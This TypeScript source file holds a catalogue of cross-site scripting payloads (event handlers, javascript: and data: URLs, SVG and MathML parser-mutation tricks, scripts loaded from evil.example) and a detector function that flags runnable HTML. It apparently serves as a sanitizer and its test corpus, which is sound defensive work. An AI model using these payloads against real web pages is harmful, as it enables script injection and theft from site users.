/** Handlers of elements that load, move, open, play or are touched without anybody asking. */
const handled = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x onerror\t=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img src=x alt="a" onload=alert(1) onerror=alert(1)>',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body onhashchange=alert(1)><a href=#x>x</a>',
  '<html onmousemove=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<button onfocus=alert(1) autofocus>a</button>',
  '<a onfocus=alert(1) autofocus href=#>a</a>',
  '<a onmouseover=alert(1)>a</a>',
  '<div onpointerrawupdate=alert(1)>a</div>',
  '<div onscrollend=alert(1) style="overflow:scroll;height:1px"><br><br></div>',
  '<p contenteditable oninput=alert(1)>a</p>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<details ontoggle=alert(1) open>',
  '<div popover id=p onbeforetoggle=alert(1)>a</div><button popovertarget=p>a</button>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<video poster=x onloadstart=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<audio oncanplay=alert(1) src=/a.mp3 autoplay>',
  '<track onerror=alert(1) src=x>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<marquee loop=1 onfinish=alert(1)>a</marquee>',
  '<div style="animation:x" onanimationstart=alert(1)>a</div>',
  '<div style="transition:color 1s" ontransitionend=alert(1)>a</div>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=alert(1)></b>',
  '<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>a',
  '<figure onauxclick=alert(1)>a</figure>',
] as const;

/** Elements that run, or load what runs. */
const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js>',
  '<script type=module>import("https://evil.example/x.js")</script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe onload=alert(1) src="https://www.youtube.com/embed/x"></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  '<applet code="x.class"></applet>',
  '<base href="javascript:alert(1)//"><a href=/x>a</a>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<portal src="https://evil.example/"></portal>',
  '<isindex type=image src=1 onerror=alert(1)>',
] as const;

/** Addresses that run when they are followed or sent to. */
const addresses = [
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="https://evil.example" target=_self ping="https://evil.example/p">a</a>',
  '<area href="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<form><button formaction="javascript:alert(1)">a</button></form>',
  '<form id=f></form><input form=f type=image formaction="javascript:alert(1)">',
  '<img src="javascript:alert(1)">',
  '<blockquote cite="javascript:alert(1)">a</blockquote>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
] as const;

/** Other grammars inside HTML, and what parsers repair into something else. */
const grammars = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>a</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>" +
    '</svg>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math href="javascript:alert(1)">a</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div style="position:fixed;inset:0;z-index:99999">a</div>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">a</p>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '<a id=location href="javascript:alert(1)"><a id=location name=href>a</a>',
] as const;

/** Ways in which texts were made to run in web pages: none of them may here. */
export const scriptInjections: readonly string[] = [...handled, ...elements, ...addresses, ...grammars];

const runningElements = new Set(
  (
    'script style svg object embed applet base meta link form input button select textarea template noscript frame ' +
    'frameset portal isindex'
  ).split(' '),
);
const addressAttributes = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'poster',
  'data',
  'background',
  'cite',
  'xlink:href',
  'ping',
]);
const frameHosts = /^https:\/\/(?:www\.youtube-nocookie\.com|player\.vimeo\.com)\//;
const tag = /<\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi;

function decoded(value: string): string {
  return value
    .replaceAll(/&#x([0-9a-f]+);?/gi, (_whole, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replaceAll(/&#(\d+);?/g, (_whole, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll('&colon;', ':')
    .replaceAll('&amp;', '&');
}

/** Browsers skip blanks and control characters in the scheme of an address. */
function withoutBlanks(value: string): string {
  return [...value].filter((character) => character > ' ').join('');
}

function runsByAttribute(element: string, name: string, value: string): boolean {
  if (name.startsWith('on') || ['srcdoc', 'autofocus', 'contenteditable', 'popovertarget', 'ping'].includes(name))
    return true;
  const address = withoutBlanks(decoded(value)).toLowerCase();
  if (element === 'iframe' && name === 'src') return !frameHosts.test(address);
  if (name === 'style') return /url\(|expression|binding|position|animation/.test(address);
  if (!addressAttributes.has(name)) return false;
  return (
    /^(?:javascript|vbscript|blob):/.test(address) ||
    (address.startsWith('data:') && !(element === 'img' && address.startsWith('data:image/')))
  );
}

/** Pieces of an answer's HTML that could run, imitate the portal or send something away; empty for clean HTML. */
export function runnable(html: string): readonly string[] {
  const found = [...html.matchAll(tag)].flatMap(([whole, element = '', attributes = '']) => {
    const pairs = [...attributes.matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g)];
    const runs = pairs.some(([, name = '', double, single, bare]) =>
      runsByAttribute(element.toLowerCase(), name.toLowerCase(), double ?? single ?? bare ?? ''),
    );
    return runs || runningElements.has(element.toLowerCase()) ? [whole] : [];
  });
  return html.replaceAll(tag, '').includes('<') ? [...found, html] : found;
}
